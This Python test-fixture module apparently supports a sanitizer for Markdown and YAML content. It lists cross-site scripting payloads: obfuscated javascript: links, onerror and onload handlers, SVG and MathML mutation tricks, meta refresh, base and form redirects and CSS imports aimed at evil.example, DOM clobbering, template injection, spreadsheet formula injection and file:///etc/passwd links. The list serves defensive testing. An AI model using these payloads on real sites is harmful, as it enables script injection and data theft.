"""What an attacker, or a careless paste, would write: in every position of Markdown and YAML.

Each calls `alert(1)`, sends to `evil.example`, or takes the name of an element of ours. A picture
of `#` is refused by no check of links, and fails to load as any other: its handler would be called.
"""

from __future__ import annotations

TABBED = "java\tscript:alert(1)"
# Each is the whole of one text. What is refused as a link to nowhere must still be harmless alone.
MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link in capitals": "[x](JaVaScRiPt:alert(1))",
    "link with a tab": f"[x](<{TABBED}>)",
    "link with a line end": "[x](<java\nscript:alert(1)>)",
    "link with decimal entities": "[x](&#106;avascript&#58;alert(1))",
    "link with hexadecimal entities": "[x](&#x6A;avascript:alert(1))",
    "link with named entities": "[x](javascript&colon;alert(1))",
    "link with a tab entity": "[x](java&Tab;script:alert(1))",
    "link with a leading space": "[x](< javascript:alert(1)>)",
    "link with a control sign": "[x](\x01javascript:alert(1))",
    "link with a soft hyphen": "[x](\u00adjavascript:alert(1))",
    "link with a zero-width space": "[x](java\u200bscript:alert(1))",
    "link with percent signs": "[x](javascript%3Aalert(1))",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to data": "[x](data:text/html,<script>alert(1)</script>)",
    "link to data, packed": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to a blob": "[x](blob:https://evil.example/1)",
    "link to a file": "[x](file:///etc/passwd)",
    "link without a scheme": "[x](//evil.example/x)",
    "link with backslashes": "[x](\\\\\\\\evil.example\\x)",
    "link with https and backslashes": "[x](https:\\\\evil.example)",
    "link to view-source": "[x](view-source:javascript:alert(1))",
    "link with a title": '[x](https://exemple.example "a\\" onmouseover=alert(1) b")',
    "link with a quote": '[x](https://exemple.example/"onmouseover="alert(1))',
    "link with attributes": "[x](https://exemple.example){: onclick=alert(1) }",
    "link with a style": '[x](https://exemple.example){: style="position:fixed" }',
    "link with a target": (
        "[x](https://exemple.example){: target=_blank ping=https://evil.example }"
    ),
    "reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "reference with a title": (
        '[x][1]\n\n[1]: https://exemple.example "\'><img src=# onerror=alert(1)>"'
    ),
    "autolink": "<javascript:alert(1)>",
    "autolink to data": "<data:text/html,<script>alert(1)</script>>",
    "mail autolink": "<x@exemple.example?onclick=alert(1)>",
    "image": "![x](javascript:alert(1))",
    "image from data": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "image from elsewhere": "![x](https://evil.example/pixel.gif)",
    "image without a scheme": "![x](//evil.example/pixel.gif)",
    "image with words": '![x" onerror="alert(1)](x.png)',
    "image with a title": "![x](x.png '\" onerror=alert(1) \"')",
    "image with attributes": "![x](x.png){: onerror=alert(1) srcset=https://evil.example/x }",
    "heading with an id": "## Titre {: #search onclick=alert(1) }",
    "heading named as a script's own": "## search",
    "heading with a tag": "## <img src=# onerror=alert(1)>",
    "footnote": "x[^1]\n\n[^1]: <img src=# onerror=alert(1)>",
    "footnote named": 'x[^"><img src=# onerror=alert(1)>]\n\n[^"><img src=# onerror=alert(1)>]: y',
    "abbreviation": 'HTML\n\n*[HTML]: "><img src=# onerror=alert(1)>',
    "definition": "<img src=# onerror=alert(1)>\n:   y",
    "table": (
        "| <img src=# onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | d |"
    ),
    "code": "`<img src=# onerror=alert(1)>`",
    "fence": '```html onload=alert(1) "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "quotation": "> <img src=# onerror=alert(1)>\n> — <img src=# onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script\t\n>",
    "script as a module": '<script type="module">import("https://evil.example/x.js")</script>',
    "script in a paragraph": "avant <script>alert(1)</script> après",
    "script's end": "</script><img src=# onerror=alert(1)>",
    "title's end": "</title><script>alert(1)</script>",
    "textarea's end": "</textarea><img src=# onerror=alert(1)>",
    "comment": "<!--><img src=# onerror=alert(1)>-->",
    "comment with a dash": "<!-- --!><img src=# onerror=alert(1)> -->",
    "CDATA": "<![CDATA[><img src=# onerror=alert(1)>]]>",
    "processing instruction": "<?x ><img src=# onerror=alert(1)>?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
    "picture": "<img src=# onerror=alert(1)>",
    "picture unclosed": "<img src=# onerror=alert(1)//",
    "picture with slashes": "<img/src=x/onerror=alert(1)>",
    "picture with backquotes": "<img src=`x`onerror=alert(1)>",
    "picture with line ends": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "picture sets": "<img srcset='https://evil.example/x 1x' sizes=1px>",
    "picture, lazy": "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "raw link": '<a href="javascript:alert(1)">x</a>',
    "raw link with a tab": f'<a href="{TABBED}">x</a>',
    "raw link with entities": '<a href="&#0000106avascript:alert(1)">x</a>',
    "raw link with new lines": '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    "raw link that asks": '<a href="https://exemple.example" ping="https://evil.example">x</a>',
    "raw link that runs": '<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>',
    "raw link in svg": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "svg": "<svg onload=alert(1)></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with a foreign object": (
        "<svg><foreignObject><img src=# onerror=alert(1)></foreignObject></svg>"
    ),
    "svg that animates": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"
    ),
    "svg that uses": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg with a style": "<svg><style><img src=# onerror=alert(1)></style></svg>",
    "mathematics": (
        "<math><mtext><table><mglyph><style><img src=# onerror=alert(1)></style></table></math>"
    ),
    "mathematics with a link": '<math href="javascript:alert(1)">x</math>',
    "mathematics with a wrapper": (
        "<math><annotation-xml encoding=text/html><img "
        "src=# onerror=alert(1)></annotation-xml></math>"
    ),
    "style": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "style attribute": '<p style="background: url(https://evil.example/x)">x</p>',
    "style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "template with a shadow": (
        "<div><template shadowrootmode=open><script>alert(1)</script></template></div>"
    ),
    "slot": "<slot onslotchange=alert(1)></slot>",
    "noscript": '<noscript><p title="</noscript><img src=# onerror=alert(1)>"></noscript>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "refresh to script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=q><button>x</button></form>',
    "form with a way out": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "field": "<input autofocus onfocus=alert(1)>",
    "choice": "<select autofocus onfocus=alert(1)></select>",
    "key": "<keygen autofocus onfocus=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frames": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embedded": '<embed src="javascript:alert(1)">',
    "applet": '<applet code="x" codebase="https://evil.example/"></applet>',
    "video": "<video><source onerror=alert(1) src=x></video>",
    "sound": "<audio src=# onerror=alert(1) autoplay></audio>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "dialog": (
        '<dialog open id=search data-worker="https://evil.example/x.js"><input name=q></dialog>'
    ),
    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1)>",
    "animation": "<p style='animation: x' onanimationstart=alert(1)>x</p>",
    "id of ours": '<p id="main">x</p><p id=search>y</p><p id="menu">z</p>',
    "id of the document's": (
        "<img id=getElementById name=currentScript><form name=body id=location>"
    ),
    "attributes of ours": '<p data-rel-open=search data-rel-menu class="rel-head js">x</p>',
    "template of another": "{{ 7 * 7 }} {% raw %} ${alert(1)} <%= alert(1) %>",
    "line separator": "x\u2028<img src=x\u2028onerror=alert(1)>\u2029",
    "null": "<scr\x00ipt>alert(1)</script>",
    "half a tag": "<img src=# onerror=alert(1) x='",
    "wide signs": "＜script＞alert(1)＜/script＞",
    "depth": "<div>" * 300 + "<img src=# onerror=alert(1)>",
    "isolate": "\u202e<script>alert(1)</script>\u202c",
}

# What a one-line field may be made to hold.
LINES = {
    "tag": "<img src=# onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "title": "</title><img src=# onerror=alert(1)>",
    "double quote": '" onmouseover="alert(1)" x="',
    "single quote": "' onmouseover='alert(1)' x='",
    "entities": "&lt;img src=# onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "comment": "--><script>alert(1)</script><!--",
    "CDATA": "]]><script>alert(1)</script>",
    "braces": "{{ config }} {% include 'x' %} ${alert(1)}",
    "slashes": '\\u003cimg src=# onerror=alert(1)\\u003e \\"alert(1)',
    "formula": '=HYPERLINK("https://evil.example";"x")',
    "formula with a plus": "+alert(1)",
    "formula with an at": "@SUM(1)*cmd|' /C calc'!A0",
    "link": "javascript:alert(1)",
    "Markdown": "[x](javascript:alert(1)) ![x](//evil.example/x) <script>alert(1)</script>",
    "calendar": "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:evil;X=1:",
    "line separator": "x\u2028alert(1)//",
    "direction": "\u202ealert(1)\u202c",
}

# What a field that holds a web address may be made to hold.
ADDRESSES = {
    "script": "javascript:alert(1)",
    "script with a tab": TABBED,
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "no scheme": "//evil.example/x",
    "quote": 'https://exemple.example/"onmouseover="alert(1)',
    "tag": "https://exemple.example/<script>alert(1)</script>",
    "fragment": "https://exemple.example/#'><img src=# onerror=alert(1)>",
    "host": 'https://exemple.example"onclick=alert(1)/',
}
